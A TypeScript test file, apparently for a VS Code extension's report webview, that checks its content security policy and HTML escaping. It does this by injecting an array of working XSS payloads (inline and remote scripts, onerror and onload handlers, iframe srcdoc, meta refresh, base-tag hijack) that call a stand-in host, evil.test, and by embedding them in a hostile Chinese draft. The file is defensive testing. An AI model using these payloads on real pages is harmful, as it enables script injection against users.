import { readFileSync } from 'node:fs';
import { afterAll, describe, expect, it, vi } from 'vitest';
import { reportPage } from '../../client/src/report/reportPage.js';
import { checkDraft } from '../../server/src/core/check.js';
import { DEFAULT_GUIDE } from '../../server/src/core/guide.js';
import { reportOf } from '../../server/src/core/report/draftReport.js';
import { renderFile, renderPanel } from '../../server/src/report/renderReport.js';
import { closeBrowser, openPage } from './page.js';

vi.mock('vscode', () => ({
  env: { language: 'zh-cn' },
  l10n: { t: (text: string) => text },
  Uri: { joinPath: (base: string, ...parts: string[]) => [base, ...parts].join('/') },
}));

/** Where a webview's own files come from in this test; nothing is there. */
const OWN = 'https://own.test';

function pageOfPanel(): string {
  const webview = { cspSource: OWN, asWebviewUri: (uri: string) => uri };
  return reportPage(...([webview, OWN] as unknown as Parameters<typeof reportPage>));
}

/** What an attacker would put into a page if he could; each sets `window.harm` or asks the network for something. */
const ATTACKS = [
  '<script>window.harm = "inline"</script>',
  '<script src="https://evil.test/a.js"></script>',
  '<script nonce="0" src="https://evil.test/b.js"></script>',
  '<img src="https://evil.test/a.png" onerror="window.harm = 1">',
  '<svg onload="window.harm = 2"></svg>',
  '<iframe src="https://evil.test/"></iframe>',
  '<iframe srcdoc="<script>parent.harm = 3</script>"></iframe>',
  '<link rel="stylesheet" href="https://evil.test/a.css">',
  '<style>@import "https://evil.test/b.css"; body { background: url(https://evil.test/b.png) }</style>',
  '<object data="https://evil.test/a.swf"></object>',
  '<video src="https://evil.test/a.mp4" autoplay></video>',
  '<meta http-equiv="refresh" content="0; url=https://evil.test/">',
  '<base href="https://evil.test/">',
];

/** A draft that is made of them, in headings, wordings that are repeated, and text. */
const HOSTILE = [
  `关于${ATTACKS[0] ?? ''}的讲话`,
  ...ATTACKS.map((attack, at) => `${'一二三四五六七八九十'.charAt(at % 10)}、抓紧${attack}工作`),
  ...ATTACKS.flatMap((attack) =>
    Array.from({ length: 3 }, () => `同志们要“${attack}”，把各项任务${attack}落到实处\u2028]]>\u202E。`),
  ),
  '请</script></style></title></textarea><!--<script>某某同志讲话。',
].join('\n');

async function outcome(
  html: string,
): Promise<{ readonly harm: unknown; readonly lookedUp: readonly string[] }> {
  const { page, requests } = await openPage(html);
  await page.waitForTimeout(300);
  return {
    harm: await page.evaluate('window.harm'),
    lookedUp: requests.filter((url) => !url.startsWith(OWN)),
  };
}

afterAll(closeBrowser);

describe('the content security policy of the panel', () => {
  it('lets nothing run or be looked up that is not our own, even if it came into the page', async () => {
    const page = pageOfPanel();
    const attacked = page.replace('</main>', `${ATTACKS.slice(0, -2).join('\n')}</main>`);
    expect(await outcome(attacked)).toEqual({ harm: undefined, lookedUp: [] });
    // Without the policy all of it happens: the attacks are real ones.
    const bare = await outcome(attacked.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/u, ''));
    expect(bare.harm).toBeDefined();
    expect(bare.lookedUp.length).toBeGreaterThan(5);
  });

  it('names our scripts by a nonce that is another each time', () => {
    const nonces = Array.from({ length: 20 }, () => /nonce="([0-9a-f]{32})"/u.exec(pageOfPanel())?.[1]);
    expect(new Set(nonces).size).toBe(20);
    expect(nonces).not.toContain(undefined);
  });

  it('allows nothing that is not named', () => {
    const policy = /Content-Security-Policy" content="([^"]*)"/u.exec(pageOfPanel())?.[1] ?? '';
    expect(policy.replace(/nonce-[0-9a-f]+/u, 'nonce-…').replaceAll('&#39;', "'")).toBe(
      `default-src 'none'; style-src ${OWN}; script-src 'nonce-…'; base-uri 'none'; form-action 'none'`,
    );
  });
});

describe('a draft that was written to attack whoever reads its report', () => {
  const result = checkDraft(HOSTILE, { format: 'plain' });
  const report = reportOf(result, { guide: DEFAULT_GUIDE });

  it('is words alone in the panel, even where there is no policy', async () => {
    const parts = renderPanel(report, { language: 'zh', width: 640, placeOf: () => '0.0.0.1' });
    expect(parts.length).toBeGreaterThan(0);
    const css = readFileSync('server/src/report/report.css', 'utf8');
    const html = `<!doctype html><style>${css}</style><main></main><script>
      for (const { html } of ${JSON.stringify(parts).replaceAll('<', '\\u003c')}) {
        document.querySelector('main').insertAdjacentHTML('beforeend', html);
      }</script>`;
    expect(await outcome(html)).toEqual({ harm: undefined, lookedUp: [] });
  });

  it('is words alone in the file, even where there is no policy', async () => {
    const name = `</title>${ATTACKS.join('')}`;
    const file = renderFile([{ name, draft: result.draft, report }], { language: 'zh', includeText: true });
    expect(file).toContain('window.harm');
    const bare = file.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/u, '');
    expect(await outcome(bare)).toEqual({ harm: undefined, lookedUp: [] });
  });
});
